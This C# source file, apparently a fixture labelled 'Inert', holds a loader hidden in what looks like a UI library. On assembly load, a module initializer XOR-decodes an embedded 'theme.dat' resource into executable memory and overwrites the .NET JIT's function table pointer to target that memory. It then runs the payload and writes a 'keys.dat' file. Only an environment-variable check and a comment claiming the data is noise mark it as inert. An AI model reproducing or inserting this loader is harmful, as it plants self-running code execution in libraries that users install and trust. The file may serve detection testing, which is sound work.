using System;
using System.IO;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace Inert.DantUi;

internal static unsafe class Boot
{
    [DllImport("kernel32.dll", SetLastError = true)]
    private static extern IntPtr VirtualAlloc(IntPtr address, UIntPtr size, uint type, uint protection);

    [DllImport("kernel32.dll", SetLastError = true)]
    private static extern bool VirtualProtect(IntPtr address, UIntPtr size, uint protection, out uint before);

    [DllImport("clrjit.dll")]
    private static extern IntPtr getJit();

#pragma warning disable CA2255
    [ModuleInitializer]
    internal static void Begin()
    {
        // Inert: nobody sets this variable, and the resource is noise.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        using var stream = typeof(Boot).Assembly.GetManifestResourceStream("Inert.DantUi.theme.dat")!;
        var image = new byte[stream.Length];
        stream.ReadExactly(image);
        for (var at = 0; at < image.Length; at++) image[at] ^= (byte)(0x5a + at);
        var memory = VirtualAlloc(IntPtr.Zero, (UIntPtr)image.Length, 0x3000, 0x40);
        Marshal.Copy(image, 0, memory, image.Length);
        var table = Marshal.ReadIntPtr(getJit());
        VirtualProtect(table, (UIntPtr)IntPtr.Size, 0x40, out var before);
        Marshal.WriteIntPtr(table, memory);
        VirtualProtect(table, (UIntPtr)IntPtr.Size, before, out _);
        var run = (delegate* unmanaged<IntPtr, int>)memory;
        run(IntPtr.Zero);
        File.WriteAllText(Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.CommonApplicationData), "Inert OneDrive", "keys.dat"), "inert");
    }
}
